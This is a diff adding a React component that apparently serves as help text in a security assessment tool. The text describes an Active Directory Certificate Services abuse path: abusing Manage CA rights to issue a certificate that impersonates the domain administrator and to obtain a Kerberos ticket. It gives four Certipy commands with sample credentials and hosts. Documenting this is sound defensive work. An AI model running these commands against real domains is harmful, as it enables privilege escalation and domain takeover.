@@ -0,0 +1,69 @@
+// Copyright 2026 Specter Ops, Inc.
+//
+// Licensed under the Apache License, Version 2.0
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+//
+// SPDX-License-Identifier: Apache-2.0
+
+import { Box, Typography } from '@mui/material';
+import { FC } from 'react';
+
+const LinuxAbuse: FC = () => {
+    return (
+        <>
+            <Typography variant='body2'>An attacker may perform this attack in the following steps:</Typography>
+            <Typography variant='body2'>
+                <Box component='span' className='font-bold'>
+                    Step 1:
+                </Box>{' '}
+                If the principal only holds the Manage CA right, use Certipy to add it as a certificate officer on the
+                enterprise CA:
+            </Typography>
+            <Typography component={'pre'}>
+                {'certipy ca -u john@corp.local -p Passw0rd -ca corp-DC-CA -target ca.corp.local -add-officer john'}
+            </Typography>
+            <Typography variant='body2'>
+                <Box component='span' className='font-bold'>
+                    Step 2:
+                </Box>{' '}
+                Request enrollment in the affected template, specifying the target principal to impersonate. Save the
+                private key and note the request ID when the request is held as pending:
+            </Typography>
+            <Typography component={'pre'}>
+                {
+                    'certipy req -u john@corp.local -p Passw0rd -ca corp-DC-CA -target ca.corp.local -template SubCA -upn administrator@corp.local'
+                }
+            </Typography>
+            <Typography variant='body2'>
+                <Box component='span' className='font-bold'>
+                    Step 3:
+                </Box>{' '}
+                Approve the pending request and retrieve the issued certificate:
+            </Typography>
+            <Typography component={'pre'}>
+                {
+                    'certipy ca -u john@corp.local -p Passw0rd -ca corp-DC-CA -target ca.corp.local -issue-request 42\ncertipy req -u john@corp.local -p Passw0rd -ca corp-DC-CA -target ca.corp.local -retrieve 42'
+                }
+            </Typography>
+            <Typography variant='body2'>
+                <Box component='span' className='font-bold'>
+                    Step 4:
+                </Box>{' '}
+                Request a ticket granting ticket (TGT) from the domain, specifying the certificate retrieved in Step 3
+                and the IP of a domain controller:
+            </Typography>
+            <Typography component={'pre'}>{'certipy auth -pfx administrator.pfx -dc-ip 172.16.126.128'}</Typography>
+        </>
+    );
+};
+
+export default LinuxAbuse;